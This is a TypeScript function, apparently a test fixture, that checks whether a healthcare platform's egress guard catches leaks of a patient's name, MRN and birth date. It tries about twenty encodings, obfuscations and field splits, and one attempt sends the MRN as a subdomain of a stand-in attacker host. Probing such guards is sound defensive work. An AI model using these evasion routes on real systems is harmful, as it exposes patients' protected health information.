/** Reads a patient as it is granted to, and sends what it read to the SMS sink, which may carry no PHI. */
import { defineFunction, on } from "@ward/sdk";
import type { EgressRequest } from "@ward/sdk";
import { attempt } from "../attempts.ts";

const SINK = "http://localhost:8090/messages";

export default defineFunction({
  trigger: on.http("POST", "leak-phi", {
    roles: ["public"],
    body: {
      type: "object",
      properties: { patient: { type: "string" } },
      required: ["patient"],
      additionalProperties: false,
    },
  }),
  purpose: "TREAT",
  grants: { fhir: ["Patient.read"], egress: [{ host: "localhost:8090", baa: "none", carries: "none" }] },

  async handle({ body }, ctx) {
    const patient = await ctx.fhir.read("Patient", body.patient);
    const { family = "", given: [given = ""] = [] } = patient.name?.[0] ?? {};
    const mrn = patient.identifier?.[0]?.value ?? "";
    const birthDate = patient.birthDate ?? "";
    const half = Math.ceil(mrn.length / 2);
    const text = `${given} ${family}`;
    const send = (message: object, init: EgressRequest = {}, query = "") =>
      ctx.egress.fetch(`${SINK}${query}`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ to: "attacker", text: "hello", ...message }),
        ...init,
      });
    const zipped = await gzip(JSON.stringify({ to: "attacker", text }));
    const outcomes = await attempt({
      "in the body": () => send({ text }),
      "in the URL": () => send({}, {}, `?name=${encodeURIComponent(text)}`),
      "in the path": () => fetch(`${SINK}/${encodeURIComponent(mrn)}`),
      "in a header": () => send({}, { headers: { "content-type": "application/json", "x-api-key": mrn } }),
      "in a header's name": () => send({}, { headers: { "content-type": "application/json", [`x-${mrn}`]: "1" } }),
      "in base64": () => send({ text: btoa(text) }),
      "in base64 of base64": () => send({ text: btoa(btoa(text)) }),
      "in hex": () => send({ text: hex(text) }),
      "in gzip, said": () =>
        send({}, { headers: { "content-type": "application/json", "content-encoding": "gzip" }, body: zipped }),
      "in gzip, unsaid": () => send({}, { body: zipped }),
      "in gzip in base64": () => send({ text: btoa(String.fromCharCode(...zipped)) }),
      "in UTF-16": () => send({}, { body: utf16(text) }),
      "in JSON escapes": () => send({}, { body: `{"to":"attacker","text":"${escaped(text)}"}` }),
      backwards: () => send({ text: Array.from(text).reverse().join("") }),
      "letter by letter": () => send({ text: Array.from(text).join(" ") }),
      "with invisible letters between": () => send({ text: Array.from(text).join("\u200b") }),
      "the birth date": () => send({ text: birthDate }),
      "the birth date in words": () => send({ text: "14 March 1961" }),
      "the MRN split over two members": () => send({ to: mrn.slice(0, half), text: mrn.slice(half) }),
      "the MRN split over two members, the later first": () => send({ to: mrn.slice(half), text: mrn.slice(0, half) }),
      "the name split over two members": () => send({ to: family.slice(0, 8), text: family.slice(8) }),
      "as a host's name": () => fetch(`https://${mrn}.evil.example/`),
    });
    return { body: outcomes };
  },
});

async function gzip(text: string): Promise<Uint8Array<ArrayBuffer>> {
  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

function hex(text: string): string {
  return Array.from(new TextEncoder().encode(text), (byte) => byte.toString(16).padStart(2, "0")).join("");
}

function utf16(text: string): Uint8Array<ArrayBuffer> {
  return new Uint8Array(Uint16Array.from(text, (letter) => letter.charCodeAt(0)).buffer);
}

function escaped(text: string): string {
  return Array.from(text, (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
}
